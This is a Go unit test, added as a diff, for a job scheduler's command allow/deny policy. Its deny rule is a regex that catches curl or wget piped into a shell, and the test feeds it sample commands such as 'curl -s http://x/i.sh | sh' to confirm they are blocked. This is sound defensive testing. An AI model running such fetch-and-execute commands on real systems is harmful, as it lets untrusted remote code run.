@@ -0,0 +1,73 @@
+//go:build !windows
+// +build !windows
+
+package job
+
+import (
+	"context"
+	"errors"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/douyu/jupiter/pkg/xlog"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCommandPolicy(t *testing.T) {
+	dir, err := ioutil.TempDir("", "cmdpolicy")
+	assert.Nil(t, err)
+	defer os.RemoveAll(dir)
+
+	file := filepath.Join(dir, "policy.json")
+	assert.Nil(t, ioutil.WriteFile(file, []byte(`{
+		"default": "deny",
+		"rules": [
+			{"name": "no-pipe-to-shell", "action": "deny", "regexp": "(curl|wget)[^|]*\\|\\s*(ba)?sh"},
+			{"name": "python", "action": "allow", "field": "interpreter", "glob": "python*"},
+			{"name": "scripts", "action": "allow", "field": "path", "glob": "`+dir+`/*"}
+		]
+	}`), 0644))
+	pyScript := filepath.Join(dir, "report.py")
+	assert.Nil(t, ioutil.WriteFile(pyScript, []byte("#!/usr/bin/env python3\nprint(1)\n"), 0755))
+
+	policy, err := newCommandPolicy(&CommandPolicyConfig{File: file}, xlog.DefaultLogger)
+	assert.Nil(t, err)
+	job := &Job{worker: &worker{Config: DefaultConfig(), commandPolicy: policy}}
+
+	allowed, rule := job.checkCommand(shellPath, []string{"-c", "curl -s http://x/i.sh | sh", "sh"})
+	assert.False(t, allowed)
+	assert.Equal(t, "no-pipe-to-shell", rule)
+
+	// shell 模式检查渲染后的命令行
+	job.ExecMode = ExecModeShell
+	job.Script = "curl -s {{.url}} | bash"
+	job.Params = map[string]string{"url": "http://x/i.sh"}
+	script, args, err := job.command()
+	assert.Nil(t, err)
+	allowed, rule = job.checkCommand(script, args)
+	assert.False(t, allowed)
+	assert.Equal(t, "no-pipe-to-shell", rule)
+	job.ExecMode, job.Script, job.Params = "", "", nil
+
+	// 钩子命令同样检查，被拒绝时不执行
+	job.Hooks = &ExecHooks{Pre: []string{"/usr/bin/env ls"}}
+	err = job.runPreHooks(context.Background(), &Task{}, nil, ioutil.Discard)
+	assert.True(t, errors.Is(err, ErrCommandDenied))
+	job.Hooks = nil
+
+	allowed, rule = job.checkCommand(pyScript, nil)
+	assert.True(t, allowed)
+	assert.Equal(t, "python", rule)
+
+	allowed, rule = job.checkCommand("/usr/bin/env", []string{"ls"})
+	assert.False(t, allowed)
+	assert.Equal(t, "default", rule)
+
+	// 策略文件无效时保留之前的策略
+	assert.Nil(t, ioutil.WriteFile(file, []byte(`{"rules": [{"action": "drop"}]}`), 0644))
+	assert.NotNil(t, policy.load())
+	allowed, _ = job.checkCommand(pyScript, nil)
+	assert.True(t, allowed)
+}